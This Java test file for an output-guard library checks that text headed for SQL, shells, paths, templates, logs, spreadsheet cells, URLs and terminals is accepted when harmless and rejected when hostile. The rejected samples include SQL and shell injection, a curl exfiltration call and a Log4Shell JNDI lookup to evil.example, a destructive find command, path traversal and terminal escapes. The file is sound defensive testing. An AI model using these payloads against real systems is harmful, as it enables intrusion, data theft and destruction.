package dev.countersign.guard.output;

import static dev.countersign.guard.output.Texts.decision;
import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.guard.Decision;
import dev.countersign.guard.output.policy.Destination;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Values, each with a harmless neighbour of an attack. */
class ValuesTest {
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '^',
      value = {
        "SQL|SELECT a FROM t WHERE note = 'x; DROP TABLE t'|SELECT a FROM t; DROP TABLE t",
        "SQL|SELECT replace(a, 'x', 'y') FROM t|SELECT \"pg_sleep\"(5)",
        "SQL|SELECT last_update FROM t|WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        "SQL|SELECT a FROM t WHERE a = 1 OR b = 2|SELECT a FROM t WHERE a = 1 OR 1=1",
        "SQL_VALUE|O'Brien|' OR 1=1--",
        "SQL_VALUE|5 or 6 people|5 OR 1=1",
        "SHELL|my file (1).txt|x;id",
        "SHELL|-5|-oProxyCommand=id",
        "SHELL|price is $5|$(id)",
        "SHELL_COMMAND|grep -rn TODO src/|curl -d @/x http://evil.example/",
        "SHELL_COMMAND|find . -name '*.java'|find . -exec rm {} +",
        "SHELL_COMMAND|git log --oneline|git -c core.pager=id log",
        "SHELL_COMMAND|sed s/a/b/g file.txt|sed s/a/b/ge file.txt",
        "SHELL_COMMAND|ls -la|c''at /etc/hosts",
        "PATH|data..backup.csv|a/..;/b",
        "PATH|console.log|con.txt",
        "PATH|100%.txt|%252e%252e%252fetc",
        "TEMPLATE|{\"a\": {\"b\": 1}}|{{7*7}}",
        "TEMPLATE|#include <stdio.h>|#set($x = 1)",
        "LOG|regex ${name} and \\d+|${${lower:j}ndi:ldap://evil.example/a}",
        "CELL|-12.5|-2+3+cmd!A0",
        "CELL|+49 170 1234567|+A1",
        "CELL|@ann said hi|@SUM(1)",
        "JSON|{\"a\":1}|{\"a\":1,\"a\":2}",
        "JSON|[1]|[1,]",
        "URL|https://example.com/a?b=c|file:///etc/passwd",
        "NUMBERS|[0.5, 0.25]|0.5 NaN"
      })
  void aHarmlessNeighbourPasses(Destination destination, String harmless, String attack) {
    assertThat(decision(harmless, destination)).isNotEqualTo(Decision.REJECT);
    assertThat(decision(attack, destination)).isEqualTo(Decision.REJECT);
  }

  @Test
  void jsonIsNotRepairedAndThePlaceIsNamed() {
    assertThat(Texts.GATE.check("{\n  \"a\": 1,\n}", Destination.JSON).findings())
        .singleElement()
        .satisfies(finding ->
            assertThat(finding.what()).isEqualTo("a comma before } at line 3, column 1"));
    assertThat(Texts.GATE.check("```json\n{}\n```", Destination.JSON).findings())
        .singleElement()
        .satisfies(finding -> assertThat(finding.what()).startsWith("a code fence"));
  }

  @Test
  void aLogTakesLinesOnlyWhereTheyLookLikeNoRecord() {
    assertThat(decision("first\nsecond", Destination.LOG)).isEqualTo(Decision.FLAG);
    assertThat(decision("first\n2026-01-02 03:04:05 INFO root logged in", Destination.LOG))
        .isEqualTo(Decision.REJECT);
    assertThat(Texts.GATE.check("first\nsecond", Destination.LOG).encoded())
        .contains("first\\nsecond");
  }

  @Test
  void aTerminalTakesNoControls() {
    for (String bad : new String[] {"\u001b]52;c;aWQ=\u0007", "\u009b2J", "a\rb", "a\bb"}) {
      assertThat(decision(bad, Destination.TERMINAL)).isEqualTo(Decision.REJECT);
      String safe = OutputGate.encode(bad, Destination.TERMINAL).orElseThrow();
      assertThat(decision(safe, Destination.TERMINAL)).isEqualTo(Decision.ACCEPT);
    }
    assertThat(decision("a\r\nb\tc\n", Destination.TERMINAL)).isEqualTo(Decision.ACCEPT);
  }

  @Test
  void anEncodingIsOfferedWhereThereIsOne() {
    assertThat(Texts.GATE.check("it's; id", Destination.SHELL).encoded())
        .contains("'it'\\''s; id'");
    assertThat(Texts.GATE.check("-rf", Destination.SHELL).encoded()).isEmpty();
    assertThat(Texts.GATE.check("' OR 1=1--", Destination.SQL_VALUE).encoded())
        .contains("''' OR 1=1--'");
    assertThat(Texts.GATE.check("=1+1", Destination.CELL).encoded()).contains("\"'=1+1\"");
    assertThat(Texts.GATE.check("=A1&\"x\"", Destination.CELL).encoded())
        .contains("\"'=A1&\"\"x\"\"\"");
    assertThat(Destination.of("SQL".toLowerCase(Locale.ROOT))).contains(Destination.SQL);
  }
}
